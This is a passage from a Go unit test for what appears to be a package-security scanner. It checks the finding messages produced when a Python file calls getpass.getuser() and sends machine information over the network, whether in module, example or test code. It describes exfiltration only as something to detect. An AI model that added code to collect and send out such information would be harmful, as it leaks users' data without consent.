		name, role, message, snippet string
	}{
		{"a module", "module", "pkg/a.py:3 gathers information about the machine (getpass.getuser()) and sends it over the network, at install or import time.",
			"getpass.getuser() (runs: at import)"},
		{"an example", "example", "pkg/a.py:3 gathers information about the machine (getpass.getuser()) and sends it over the network, " +
			"in an example or documentation file, which runs when someone runs it, not at install or import time.", "getpass.getuser() (runs: when the file is run)"},
		{"a test", "test", "pkg/a.py:3 gathers information about the machine (getpass.getuser()) and sends it over the network, " +
			"in a test file, which runs when the tests run, not at install or import time.", "getpass.getuser() (runs: when the file is run)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := finding(r, &Fact{T: "call", File: "pkg/a.py", Line: 3, Role: tc.role, Ctx: "module", Name: "getpass.getuser", Value: "getpass.getuser()"}, report.SeverityLow, 1)
			if d := cmp.Diff(tc.message, f.Message); d != "" {
				t.Errorf("message (-want +got):\n%s", d)
			}
			if d := cmp.Diff(tc.snippet, f.Snippet); d != "" {
				t.Errorf("snippet (-want +got):\n%s", d)
			}
		})
	}
}
